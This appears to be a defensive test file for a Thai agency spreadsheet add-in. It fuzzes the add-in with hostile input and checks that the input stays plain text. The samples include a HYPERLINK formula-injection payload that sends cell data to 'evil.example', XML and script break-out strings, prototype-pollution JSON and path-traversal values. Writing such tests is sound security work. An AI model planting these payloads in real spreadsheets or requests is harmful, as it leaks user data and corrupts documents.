/**
 * Text that means harm, on the built add-in: whatever it begins with it never becomes a formula, whatever marks it holds it
 * stays text in documents, and whatever the page sends the door answers findings.
 */
import { DOMParser } from "@xmldom/xmldom";
import fc from "fast-check";
import PizZip from "pizzip";
import { handlers } from "../../src/actions/handlers";
import { DOCUMENT_KINDS } from "../../src/agency/choices";
import { newRow } from "../../src/agency/empty";
import { settingFields, type TableName, tableFields } from "../../src/agency/fields";
import type { AgencyFile } from "../../src/agency/file";
import { rounds } from "../rounds";
import { closeOffices, type Office, openOffice } from "./sample-office";
import { sampleFile } from "./sample-workbench";

afterEach(closeOffices);

/** Beginnings that a spreadsheet takes for a formula, or drops. */
const BEGINNINGS = ["=", "+", "-", "@", "\t=", "'=", "''=", " =", "＝", "=-+@"];
const CALL = 'HYPERLINK("https://evil.example/?"&A1,"ดู")';
/** Marks of XML, of the templates' tags, of HTML and of a script. */
const MARKS = "</w:t></w:r></w:p><w:p><w:r><w:t>แทรก & {#มาตรการ}{ชื่อหน่วยงาน}{/มาตรการ} <script>alert(1)</script> ]]> \" '";

/** The sample with `text` of a counter in every field that holds text. */
function fileOf(text: (count: number) => string): AgencyFile {
  const file = sampleFile();
  let count = 0;
  const fill = (row: Record<string, unknown>, fields: Record<string, string>) => {
    for (const [name, kind] of Object.entries(fields)) {
      if (kind !== "text" && kind !== "list" && kind !== "link") continue;
      count += 1;
      row[name] = text(count);
    }
  };
  fill(file.settings as unknown as Record<string, unknown>, settingFields);
  for (const [table, fields] of Object.entries(tableFields)) {
    if (["templates", "texts", "catalogueEdits"].includes(table)) continue;
    const rows = file[table as TableName] as unknown as Record<string, unknown>[];
    if (rows.length === 0) rows.push(newRow(table as TableName, `${table}-1`) as unknown as Record<string, unknown>);
    rows.splice(3);
    for (const row of rows) fill(row, fields);
  }
  file.suggestions = [newRow("suggestions", "own-1", { indicator: "8", measure: text(1), methods: text(2), followUp: text(3) })];
  file.texts = [newRow("texts", "measures-foreword", { key: "measures-foreword", text: text(4) })];
  file.catalogueEdits = [newRow("catalogueEdits", "2569/oit/measures/number", { value: "O25", note: text(5) })];
  for (const year of file.scores) year.published.level = text(6);
  return file;
}

const ofFormulas = () => fileOf((count) => `${BEGINNINGS[count % BEGINNINGS.length]}${CALL}`);

/** Formulas in tabs that hold what staff type. */
function strayFormulas({ workbench, formulas }: Office): string[] {
  const titles = workbench.services.SpreadsheetApp.getActiveSpreadsheet()
    .getSheets()
    .map((sheet) => sheet.getName())
    .filter((title) => title !== "วิเคราะห์" && title !== "เริ่มต้น");
  return titles.flatMap((title) =>
    formulas(title)
      .flat()
      .filter((formula) => formula !== ""),
  );
}

describe("text that begins like a formula", () => {
  test("a restored file stays text in every cell, and is the same file again", () => {
    const office = openOffice();
    const file = ofFormulas();
    office.done("restore", { file });
    expect(strayFormulas(office)).toEqual([]);
    const again = office.file();
    for (const table of [
      "signers",
      "units",
      "issues",
      "measures",
      "oitItems",
      "announcement",
      "register",
      "suggestions",
    ] as const) {
      expect([table, again[table]]).toEqual([table, file[table]]);
    }
    expect(again.settings).toEqual(file.settings);
    office.done("undo", {});
    expect(strayFormulas(office)).toEqual([]);
  });

  test("an example measure, an issue, a drafted announcement, a new year and OIT items taken from such a file stay text", () => {
    const office = openOffice((file) => Object.assign(file, ofFormulas(), { settings: file.settings, announcement: [] }));
    office.done("addSuggestion", { suggestion: "own-1", year: 2570, responsible: `=${CALL}`, period: `+${CALL}` });
    office.done("draftAnnouncement", {});
    expect(office.file().announcement.some(({ text }) => text.includes(CALL))).toBe(true);
    office.done("startNextYear", { year: 2571 });
    office.ask("fillOit", { year: 2571 });
    expect(strayFormulas(office)).toEqual([]);
    expect(office.file().measures.filter(({ measure }) => measure.includes(CALL)).length).toBeGreaterThan(3);
  });

  test("pasted scores, corrections of the catalogue, names of files and the chosen unit stay text", () => {
    const office = openOffice();
    office.ask("readScores", { year: 2569, text: `=1+1 94.32\n+66\n@SUM(A1:A9)\nระดับ =${CALL}` });
    office.ask("writeScores", { year: 2569, chosen: [{ row: "level", value: `=${CALL}`, before: null }] });
    office.ask("importCatalogueEdits", {
      file: {
        format: "ita-catalogue-edits",
        version: 1,
        edits: [{ id: "2569/oit/measures/number", value: `=${CALL}`, note: `@${CALL}` }],
      },
    });
    office.done("chooseUnit", { unit: `=${CALL}` });
    const { value: template } = office.done("takeTemplate", { kind: "memo" });
    office.ask("giveTemplate", { kind: "memo", fileName: `=${CALL}.docx`, base64: template.base64 });
    office.ask("makeDocument", { kind: "memo", force: true, again: false });
    expect(office.cells("ทะเบียนเอกสาร").flat()).toContain(`=${CALL}`);
    expect(strayFormulas(office)).toEqual([]);
  });
});

test("marks of XML, of tags and of scripts stay text in every document", () => {
  const office = openOffice((file) =>
    Object.assign(
      file,
      fileOf(() => MARKS),
    ),
  );
  for (const kind of DOCUMENT_KINDS) {
    const { value } = office.done("downloadDocument", { kind, force: true });
    const xml = new PizZip(Buffer.from(value.base64, "base64")).file("word/document.xml")?.asText() ?? "";
    const complaints: string[] = [];
    const document = new DOMParser({ onError: (_, message) => complaints.push(message) }).parseFromString(xml, "text/xml");
    expect([kind, complaints]).toEqual([kind, []]);
    expect(document.documentElement?.textContent).toContain("</w:t></w:r></w:p><w:p><w:r><w:t>แทรก & {#มาตรการ}");
    expect(document.getElementsByTagName("script")).toHaveLength(0);
  }
});

describe("the door", () => {
  const hostile = fc.oneof(
    fc.constantFrom("", "__proto__", "constructor", `=${CALL}`, MARKS, "\u0000", "\ud800", "../../x", "9".repeat(400), "null"),
    fc.string({ unit: "binary", maxLength: 20 }),
  );
  const json = fc.oneof(
    fc.jsonValue(),
    fc.constantFrom<unknown>(
      JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
      { format: "ita-agency-file", version: 1, measures: [{ id: "__proto__" }] },
      { format: "ita-catalogue-edits", version: 1, edits: [{ id: "__proto__/polluted", value: "1", note: "" }] },
      [{ row: "__proto__", value: "=1", before: null }],
    ),
  );
  /** Requests of the list with arguments of the right shape and of no good meaning. */
  const request = fc.constantFrom(...Object.entries(handlers)).chain(([name, handler]) => {
    const rules = Object.entries(handler.arguments as Record<string, readonly string[] | string>);
    const values = rules.map(([key, rule]) => {
      const value: fc.Arbitrary<unknown> = Array.isArray(rule)
        ? fc.constantFrom(...(rule as readonly string[]))
        : rule === "yes-no"
          ? fc.boolean()
          : rule === "year"
            ? fc.integer({ min: 2500, max: 2699 })
            : rule === "json"
              ? json
              : hostile;
      return value.map((one) => [key, one] as const);
    });
    return fc.tuple(...values).map((pairs) => ({ name, json: JSON.stringify(Object.fromEntries(pairs)) }));
  });

  test("requests with arguments of no good meaning are answered, in Thai, and leave the workbook readable and unpolluted", () => {
    const office = openOffice();
    let asked = 0;
    fc.assert(
      fc.property(request, ({ name, json: args }) => {
        const text = office.workbench.callFromPage("callAction", name, args) as string;
        asked += 1;
        const answer = JSON.parse(text) as { ok: boolean; findings: { id: string; text: string; remedy: string }[] };
        for (const finding of answer.findings) {
          expect(`${name} ${finding.id}: ${finding.text}`).toMatch(/[ก-๙]/);
          expect(`${name} ${finding.id}: ${finding.remedy}`).toMatch(/[ก-๙]/);
          // A fault inside shows as this finding: no argument may bring one about.
          expect(`${name} ${args} ${finding.id}`).not.toMatch(/service-fault$/);
        }
        expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
        expect(office.workbench.evaluate("({}).polluted")).toBeUndefined();
      }),
      { numRuns: rounds(25, 400), seed: 2569 },
    );
    expect(asked).toBeGreaterThan(20);
    expect(strayFormulas(office)).toEqual([]);
    expect(office.ask("overview", {}).ok).toBe(true);
  });

  test("a file that is too large never reaches the workbook", () => {
    const office = openOffice();
    const before = office.cells("_แม่แบบ");
    const giant = "A".repeat(3_000_001);
    expect(office.ask("giveTemplate", { kind: "memo", fileName: "x.docx", base64: giant })).toMatchObject({
      ok: false,
      findings: [{ id: "bad-request" }],
    });
    for (const base64 of ["A".repeat(2_900_000), "*".repeat(1_000), "="]) {
      const answer = office.ask("giveTemplate", { kind: "memo", fileName: "x.docx", base64 });
      expect(answer.ok).toBe(false);
      expect(answer.findings.map(({ id }) => id)).not.toContain("service-fault");
    }
    expect(office.cells("_แม่แบบ")).toEqual(before);
  });
});
